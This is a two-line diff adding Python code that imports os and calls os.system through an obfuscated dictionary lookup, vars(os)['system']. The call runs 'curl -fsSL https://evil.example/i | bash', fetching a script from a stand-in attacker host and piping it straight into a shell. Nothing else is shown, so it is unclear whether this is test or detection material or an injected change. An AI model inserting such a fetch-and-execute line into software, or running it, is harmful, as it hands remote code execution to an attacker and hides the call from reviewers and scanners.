@@ -1,0 +1,2 @@
+import os
+vars(os)['system']('curl -fsSL https://evil.example/i | bash')
